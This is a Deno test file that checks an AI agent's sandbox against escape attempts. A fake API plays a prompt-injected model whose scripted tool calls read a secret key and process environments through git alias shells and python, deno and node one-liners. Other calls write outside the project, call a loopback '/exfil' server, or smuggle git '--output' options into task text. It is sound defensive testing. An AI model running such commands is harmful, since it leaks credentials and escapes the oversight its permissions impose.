/**
 * Sandbox escapes through child processes, end to end: the fake Messages
 * API plays a prompt-injected model whose tool calls try to get past the
 * agent's grant with the programs it may run — git aliases that start a
 * shell, interpreters (python3, deno, node) that read secrets, write outside
 * the project or reach the network — and a local agent whose task text
 * smuggles a git option. Only outcomes are asserted: no secret in any
 * request the fake API received, nothing outside the grant created or
 * changed on disk, no request to a server the agent was never granted.
 * Each test first checks a legitimate call of the same kind works (a
 * sandbox that runs nothing would "pass" every attack).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { startFakeAnthropic, toolUse } from "../support/fake_anthropic.ts";
import {
  API_KEY,
  assertControls,
  assertNoLeak,
  attack,
  exists,
  expectAll,
  listener,
  runAgent,
  scriptOf,
  snapshot,
  step,
  stepChecks,
} from "../support/sandbox_attack.ts";

const bash = (command: string) => toolUse("Bash", { command });

Deno.test("git alias shell: the reviewer cannot read the HOME secret key or any process environment", async () => {
  const world = await attack();
  const steps = [
    step("git log", bash("git log --oneline -1"), "ok", /super-agents init/),
    step(
      "alias x (cat $HOME/…/secret.key)",
      bash("git -c alias.x='!cat $HOME/.super-agents/secret.key' x"),
    ),
    step(
      "alias k (cat <home>/…/secret.key)",
      bash(`git -c 'alias.k=!cat ${world.secretKeyFile}' k`),
    ),
    step(
      "alias y (cat /proc/{1,self,$PPID}/environ)",
      bash(`git -c alias.y='!cat /proc/1/environ /proc/self/environ /proc/'"$PPID"'/environ' y`),
    ),
    step(
      "alias z (grep /proc/*/environ)",
      bash(`git -c "alias.z=!grep -aho 'sk-ant-[A-Za-z0-9-]*' /proc/[0-9]*/environ" z`),
    ),
  ];
  const fake = await startFakeAnthropic({ responder: scriptOf(steps) });
  try {
    await runAgent(world, "reviewer-agent", "review the last commit", fake);
    assertControls(fake, steps);
    await expectAll([
      ...stepChecks(fake, steps),
      () =>
        assertNoLeak(fake, { "secret.key": world.secretKey, ANTHROPIC_API_KEY: API_KEY }, steps),
    ]);
  } finally {
    await fake.close();
    await world.cleanup();
  }
});

Deno.test("git alias shell: the reviewer cannot write outside the project (nor into it)", async () => {
  const world = await attack();
  const target = join(world.outside, "outside.txt");
  const inProject = join(world.sandbox.project, "pwned.txt");
  const steps = [
    step("git log", bash("git log --oneline -1"), "ok", /super-agents init/),
    step(
      "alias w (sh -c echo > outside)",
      bash(`git -c alias.w='!sh -c "echo pwned > ${target}"' w`),
      "failed",
    ),
    step(
      "alias v (echo > project file, no write grant)",
      bash(`git -c alias.v='!echo pwned > ${inProject}' v`),
      "failed",
    ),
  ];
  const fake = await startFakeAnthropic({ responder: scriptOf(steps) });
  try {
    await runAgent(world, "reviewer-agent", "review the last commit", fake);
    assertControls(fake, steps);
    await expectAll([
      async () => assert.ok(!await exists(target), `${target} was created by a git alias`),
      async () => assert.ok(!await exists(inProject), "a read-only agent wrote into the project"),
      async () => assert.deepEqual(await snapshot(world.outside), {}, "the outside dir changed"),
      ...stepChecks(fake, steps),
    ]);
  } finally {
    await fake.close();
    await world.cleanup();
  }
});

Deno.test("interpreters: python3, deno and node children cannot write outside the project", async () => {
  const world = await attack();
  const files = {
    python3: join(world.outside, "python.txt"),
    deno: join(world.outside, "deno.txt"),
    node: join(world.outside, "node.txt"),
  };
  const steps = [
    step(
      "python3 writes in src/",
      bash(`python3 -c "open('src/ok.txt','w').write('ok');print(6 * 7)"`),
      "ok",
      /42/,
    ),
    step("deno eval", bash(`deno eval "console.log(6 * 7)"`), "ok", /42/),
    step("node -e", bash(`node -e "console.log(6 * 7)"`), "ok", /42/),
    step(
      "python3 writes outside",
      bash(`python3 -c "open('${files.python3}','w').write('x')"`),
      "failed",
    ),
    step(
      "deno eval writes outside",
      bash(`deno eval "Deno.writeTextFileSync('${files.deno}','x')"`),
      "failed",
    ),
    step(
      "node -e writes outside",
      bash(`node -e "require('fs').writeFileSync('${files.node}','x')"`),
      "failed",
    ),
  ];
  const fake = await startFakeAnthropic({ responder: scriptOf(steps) });
  try {
    await runAgent(world, "developer-agent", "add a feature", fake);
    assertControls(fake, steps);
    assert.equal(await Deno.readTextFile(join(world.sandbox.project, "src/ok.txt")), "ok");
    await expectAll([
      ...Object.entries(files).map(([name, path]) => async () =>
        assert.ok(!await exists(path), `${name} created ${path} outside the project`)
      ),
      ...stepChecks(fake, steps),
    ]);
  } finally {
    await fake.close();
    await world.cleanup();
  }
});

Deno.test("HOME secret: python3, deno and node children and Read cannot read the secret key or the API key", async () => {
  const world = await attack();
  const scan = "import glob\n" +
    "for p in glob.glob('/proc/[0-9]*/environ'):\n" +
    "  try: print(p, [v for v in open(p,'rb').read().split(bytes(1)) if b'ANTHROPIC' in v])\n" +
    "  except Exception: pass";
  const steps = [
    step(
      "python3 reads README.md",
      bash(`python3 -c "print(open('README.md').read())"`),
      "ok",
      /# app/,
    ),
    step(
      "python3 reads <home>/.super-agents/secret.key",
      bash(`python3 -c "print(open('${world.secretKeyFile}').read())"`),
    ),
    step(
      "python3 reads ~/.super-agents/secret.key",
      bash(
        `python3 -c "import os;print(open(os.path.expanduser('~/.super-agents/secret.key')).read())"`,
      ),
    ),
    step("python3 scans /proc/*/environ", bash(`python3 -c "${scan}"`)),
    step(
      "deno eval reads <home>/.super-agents/secret.key",
      bash(`deno eval "console.log(Deno.readTextFileSync('${world.secretKeyFile}'))"`),
    ),
    step(
      "node -e reads <home>/.super-agents/secret.key",
      bash(`node -e "console.log(require('fs').readFileSync('${world.secretKeyFile}','utf8'))"`),
    ),
    step(
      "Read ../home/.super-agents/secret.key",
      toolUse("Read", { file_path: "../home/.super-agents/secret.key" }),
      "refused",
    ),
    step(
      "Read <home>/.super-agents/secret.key",
      toolUse("Read", { file_path: world.secretKeyFile }),
      "refused",
    ),
  ];
  const fake = await startFakeAnthropic({ responder: scriptOf(steps) });
  try {
    await runAgent(world, "developer-agent", "add a feature", fake);
    assertControls(fake, steps);
    await expectAll([
      ...stepChecks(fake, steps),
      () =>
        assertNoLeak(fake, { "secret.key": world.secretKey, ANTHROPIC_API_KEY: API_KEY }, steps),
    ]);
  } finally {
    await fake.close();
    await world.cleanup();
  }
});

Deno.test("interpreters: a python3 child cannot reach a loopback server the agent was never granted", async () => {
  const world = await attack();
  const server = listener();
  const steps = [
    step("python3", bash(`python3 -c "print(6 * 7)"`), "ok", /42/),
    step(
      "python3 urlopen",
      bash(
        `python3 -c "import urllib.request;urllib.request.urlopen('http://127.0.0.1:${server.port}/exfil')"`,
      ),
    ),
  ];
  const fake = await startFakeAnthropic({ responder: scriptOf(steps) });
  try {
    await runAgent(world, "developer-agent", "add a feature", fake);
    assertControls(fake, steps);
    await expectAll([
      () => assert.deepEqual(server.hits, [], "the child reached the loopback server"),
      ...stepChecks(fake, steps),
    ]);
  } finally {
    await fake.close();
    await server.close();
    await world.cleanup();
  }
});

Deno.test("option injection: secret-scan's task text cannot make git write outside the project", async () => {
  const world = await attack();
  const victim = join(world.outside, "victim.txt");
  const original = "precious bytes\n";
  await Deno.writeTextFile(victim, original);
  await world.repo!.commit("second", { "src/b.ts": "export const b = 2;\n" });
  try {
    const control = await world.sandbox.run(["run", "secret-scan", "range HEAD~1..HEAD"]);
    assert.equal(control.code, 0, `control: secret-scan of a clean range: ${control.stderr}`);
    const checks: (() => void)[] = [];
    for (
      const task of [
        `range --output=${victim}..HEAD`,
        `range HEAD~1..--output=${victim}`,
        `since --output=${join(world.outside, "created")}`,
      ]
    ) {
      const result = await world.sandbox.run(["run", "secret-scan", task]);
      const after = await snapshot(world.outside);
      checks.push(
        () => assert.equal(after["victim.txt"], original, `"${task}" overwrote the victim outside`),
        () =>
          assert.deepEqual(
            Object.keys(after),
            ["victim.txt"],
            `"${task}" created a file outside the project`,
          ),
        () => assert.notEqual(result.code, 0, `"${task}" exited 0`),
      );
      for await (const entry of Deno.readDir(world.outside)) {
        if (entry.name !== "victim.txt") {
          await Deno.remove(join(world.outside, entry.name), { recursive: true });
        }
      }
      await Deno.writeTextFile(victim, original);
    }
    await expectAll(checks);
  } finally {
    await world.cleanup();
  }
});
